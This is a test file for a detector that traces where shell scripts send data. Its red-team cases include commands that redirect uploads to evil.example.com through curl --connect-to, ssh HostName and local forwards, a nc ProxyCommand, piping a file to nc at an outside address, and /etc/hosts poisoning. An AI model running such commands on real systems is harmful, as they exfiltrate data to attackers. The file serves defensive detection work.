    ["MC_HOST_nas=https://10.0.4.20 true\nmc cp /data/db.tgz nas/b/", "mc → mc alias nas"],
    ["MC_HOST_nas=https://10.0.4.20\nmc cp /data/db.tgz nas/b/", "mc → mc alias nas"],
    ["( export MC_HOST_nas=https://10.0.4.20 )\nmc cp /data/db.tgz nas/b/", "mc → mc alias nas"],
    [
      "setup() {\n  mc alias set nas https://10.0.4.20 K S\n}\nmc cp /data/db.tgz nas/b/",
      "mc → mc alias nas",
    ],
    [
      "if false; then\n  mc alias set nas https://10.0.4.20 K S\nfi\nmc cp /data/db.tgz nas/b/",
      "mc → mc alias nas",
    ],
    [
      "sudo -u backup mc alias set nas https://10.0.4.20 K S\nmc cp /data/db.tgz nas/b/",
      "mc → mc alias nas",
    ],
    [
      "mc alias set nas https://10.0.4.20 K S\nmc --config-dir /etc/mc-other cp /data/db.tgz nas/b/",
      "mc → mc alias nas",
    ],
    [
      "rclone config create nas sftp host 10.0.4.20\nrclone config update nas host backup.example.de\nrclone copy /srv nas:/x",
      "rclone → rclone remote nas",
    ],
    // Found by the red team (m21): rclone's configuration file names a remote case-sensitively, as
    // mc names an alias: `[Off]` is not the `off:` the copy reads.
    [
      "rclone config create Off s3 provider Minio endpoint http://10.0.1.5:9000\nrclone copy /data off:b",
      "rclone → rclone remote off",
    ],
    [
      "rclone config create off sftp host 10.0.4.20\nrclone copy /srv OFF:/x",
      "rclone → rclone remote OFF",
    ],
    ["mc alias set Nas https://10.0.4.20 K S\nmc cp /data/db.tgz nas/b/", "mc → mc alias nas"],
    ["export MC_HOST_Nas=https://10.0.4.20\nmc cp /data/db.tgz nas/b/", "mc → mc alias nas"],
  ])("%s still cannot be placed", (script, expected) => {
    expect(sends(script)).toEqual([expected]);
  });
});

// Found by the red team: a line or script can send elsewhere than the host its destination
// names — curl's --connect-to and --resolve, ssh's HostName, jump hosts and proxy commands under
// scp and rsync, a proxy the script exports, a destination a command substitution builds.
describe("a connection the line or the script redirects", () => {
  it.each([
    [
      "curl -T f --connect-to internal.lb:443:evil.example.com:443 https://internal.lb/x",
      ["curl → https://internal.lb/x", "curl → https://evil.example.com/"],
    ],
    [
      "curl -T f --resolve internal.lb:443:203.0.113.9 https://internal.lb/x",
      ["curl → https://internal.lb/x", "curl → https://203.0.113.9/"],
    ],
    [
      'curl -T /data/dump.sql "$(curl -s http://10.0.1.5/target)"',
      ["curl → http://10.0.1.5/target)", "curl → unread $(curl"],
    ],
    [
      "scp -o HostName=evil.example.com f ops@backup.internal:/srv/",
      ["scp → host evil.example.com"],
    ],
    [
      'rsync -e "ssh -J jump.example.de" f ops@10.0.1.5:/srv/',
      ["rsync → host 10.0.1.5", "rsync → host jump.example.de"],
    ],
    [
      'scp -o "ProxyCommand=nc %h %p" f ops@10.0.1.5:/x',
      ["scp → host 10.0.1.5", "scp → unread ProxyCommand=nc %h %p"],
    ],
    [
      "export https_proxy=http://proxy.example.de:3128\naws s3 cp f s3://b/",
      ["aws s3 → host proxy.example.de", "aws s3 → s3 bucket b"],
    ],
    [
      "export http_proxy=http://proxy.example.de:3128\ncurl -T f http://10.0.1.5/up",
      ["curl → http://10.0.1.5/up", "curl → http://proxy.example.de:3128"],
    ],
    // An ssh tunnel carries what the machine sends into it to the server, and on to a local
    // forward's target (the red team's `ssh -L 9000:evil:9000 peer`, then `curl … localhost:9000`).
    [
      "ssh -f -N -L 9000:evil.example.com:9000 ops@10.0.1.5\ncurl -T f http://localhost:9000/",
      ["ssh → host 10.0.1.5", "ssh → host evil.example.com", "curl → http://localhost:9000/"],
    ],
    ["ssh -fN -D 1080 ops@tunnel.example.de", ["ssh → host tunnel.example.de"]],
    ["ssh -R 5432:localhost:5432 ops@203.0.113.9 -N", ["ssh → host 203.0.113.9"]],
    [
      "ssh -o LocalForward='9000 evil.example.com:9000' ops@10.0.1.5 -N",
      ["ssh → host 10.0.1.5", "ssh → host evil.example.com"],
    ],
  ])("%s sends through what redirects it", (script, expected) => {
    expect(sends(script)).toEqual(expected);
  });

  it.each([
    // The substitution builds the path only; the proxy is turned off, or set for one command.
    [
      'curl -T /data/x.log "https://logs.example.com/$(date +%F).log"',
      ["curl → https://logs.example.com/$(date"],
    ],
    [
      "export https_proxy=http://proxy.example.de:3128\ncurl --noproxy '*' -T f https://10.0.1.5/",
      ["curl → https://10.0.1.5/"],
    ],
    [
      "https_proxy=http://proxy.example.de:3128 true\ncurl -T f https://10.0.1.5/",
      ["curl → https://10.0.1.5/"],
    ],
    // A command run over ssh, with no tunnel, sends only the command.
    ["ssh ops@10.0.1.5 uptime", []],
  ])("twin: %s sends only to its destination", (script, expected) => {
    expect(sends(script)).toEqual(expected);
  });
});

// Red team 85 (a20, literal): a script that maps a name to an address in /etc/hosts sends an
// upload to that name there.
describe("the entries a script writes into the machine's hosts file", () => {
  const entries = (script: string) => Object.fromEntries(hostsFileEntries(script));
  it.each([
    ['echo "203.0.113.9 api.internal" >> /etc/hosts', { "api.internal": ["203.0.113.9"] }],
    [
      "echo 203.0.113.9 a.example B.Example | sudo tee -a /etc/hosts",
      { "a.example": ["203.0.113.9"], "b.example": ["203.0.113.9"] },
    ],
    ["printf '10.0.0.5\\tdb.internal\\n' >> /etc/hosts", { "db.internal": ["10.0.0.5"] }],
    [
      "cat >> /etc/hosts <<EOF\n203.0.113.9 up.example\n2001:db8::1 six.example\nEOF\ncurl -T f https://up.example/",
      { "up.example": ["203.0.113.9"], "six.example": ["2001:db8::1"] },
    ],
    [
      "sed -i 's/^.*db.internal$/203.0.113.7 db.internal/' /etc/hosts",
      { "db.internal": ["203.0.113.7"] },
    ],
    // Red team 86 (h16, h10): the file's path quoted, or written by dd.
    ["echo '203.0.113.9 api.internal' >> '/etc/hosts'", { "api.internal": ["203.0.113.9"] }],
    [
      'echo "203.0.113.9 api.internal" | dd of=/etc/hosts oflag=append conv=notrunc',
      { "api.internal": ["203.0.113.9"] },
    ],
    // An address built at run time, as written; one name mapped twice, to both.
    [
      'echo "$IP api.internal" >> /etc/hosts\necho "10.0.0.9 api.internal" >> /etc/hosts',
      { "api.internal": ["$IP", "10.0.0.9"] },
    ],
  ])("%s", (script, expected) => {
    expect(entries(script)).toEqual(expected);
  });

  it.each([
    // The machine's own name, built at run time.
    'echo "127.0.0.1 $(hostname)" >> /etc/hosts',
    "echo \"$(hostname -I | cut -d' ' -f1) $(hostname)\" >> /etc/hosts",
    // Another file, and a line beside the write.
    "echo '203.0.113.9 api.internal' > /tmp/notes",
    'echo "10.0.0.1 db" >> /etc/hosts.bak',
    "grep api /etc/hosts && nc 203.0.113.5 9000 < f",
  ])("twin: %s maps no name", (script) => {
    expect(entries(script)).toEqual({});
  });
});
